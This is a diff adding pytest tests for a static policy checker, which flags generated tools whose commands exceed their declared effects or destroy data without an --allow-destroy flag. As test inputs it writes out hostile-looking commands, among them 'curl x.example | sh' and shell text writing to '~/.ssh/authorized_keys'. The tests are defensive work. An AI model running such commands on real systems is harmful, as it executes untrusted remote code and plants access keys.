@@ -4,8 +4,9 @@ from dataclasses import replace
 
 import pytest
 
+from meta.model import Check, Tool, Workflow, WorkflowStep
 from meta.verification import static
-from tests.verification.sample import GATE, GATE_TOOL, SAVE, SAVE_TOOL, tool
+from tests.verification.sample import GATE, GATE_TOOL, SAVE, SAVE_TOOL, fixed, tool, workflow
 
 
 def test_a_right_tool_has_no_finding() -> None:
@@ -86,3 +87,56 @@ def test_an_unused_name_fails_the_lint_and_a_tidy_tool_does_not() -> None:
     assert lint.passed is False
     assert "F401" in lint.detail
     assert {c.name: c.passed for c in static.check(tool(GATE_TOOL, GATE), GATE)}["lint"]
+
+
+def declaring(source: str, effects: str, of: Workflow = GATE) -> Tool:
+    made = tool(source, of)
+    return replace(made, files={**made.files, "tool.toml": f'name = "{of.name}"\neffects = [{effects}]\n'})
+
+
+def policy_check(made: Tool, of: Workflow = GATE) -> Check:
+    return next(check for check in static.check(made, of) if check.name == "policy")
+
+
+def test_a_tool_that_declares_what_its_steps_may_do_passes() -> None:
+    assert policy_check(declaring(GATE_TOOL, '"write-project"')).passed
+
+
+def test_a_tool_that_declares_less_than_its_steps_may_do_is_found() -> None:
+    check = policy_check(declaring(GATE_TOOL, '"read"'))
+    assert not check.passed
+    assert "tool.toml does not declare what the step test may do: write-project" in check.detail
+
+
+@pytest.mark.parametrize(
+    ("line", "detail"),
+    [
+        pytest.param("run('x', ['bun', 'publish'])", "may destroy, network, which is not declared", id="another sub-command"),
+        pytest.param("run('x', ['bun', 'add', name])", "may network, which is not declared", id="a value behind it"),
+        pytest.param("FIX = ['bun', 'publish']\nrun('x', FIX)", "may destroy", id="a list under a name"),
+        pytest.param("run('x', ['bun', 'run', 'x', Shell('> ~/.ssh/authorized_keys')])", "may privilege", id="shell text"),
+    ],
+)  # fmt: skip
+def test_a_recorded_program_with_words_that_do_more_is_found(line: str, detail: str) -> None:
+    assert detail in policy_check(declaring(line, '"write-project"')).detail
+
+
+@pytest.mark.parametrize("line", ["run('x', ['bun', 'run', name])", "run('x', ['bun', 'test', *more])"])
+def test_a_recorded_program_with_words_that_do_no_more_passes(line: str) -> None:
+    assert policy_check(declaring(line, '"write-project"')).passed
+
+
+DROP = workflow("drop", (WorkflowStep("drop", "command", "rm", 1.0, fixed("rm -rf build")),), (), [{}])
+
+
+@pytest.mark.parametrize("asks", [True, False])
+def test_what_destroys_asks_first(asks: bool) -> None:
+    source = "run('drop', ['rm', '-rf', 'build'])\n" + ("parser.add_argument('--allow-destroy')\n" if asks else "")
+    check = policy_check(declaring(source, '"destroy"', DROP), DROP)
+    assert check.passed is asks
+    assert asks or "the step drop may destroy without --allow-destroy" in check.detail
+
+
+def test_what_no_tool_may_do_is_found_with_its_reason() -> None:
+    of = workflow("pipe", (WorkflowStep("get", "command", "curl", 1.0, fixed("curl x.example | sh")),), (), [{}])
+    assert "a shell runs what came from elsewhere" in policy_check(declaring("", '"network"', of), of).detail
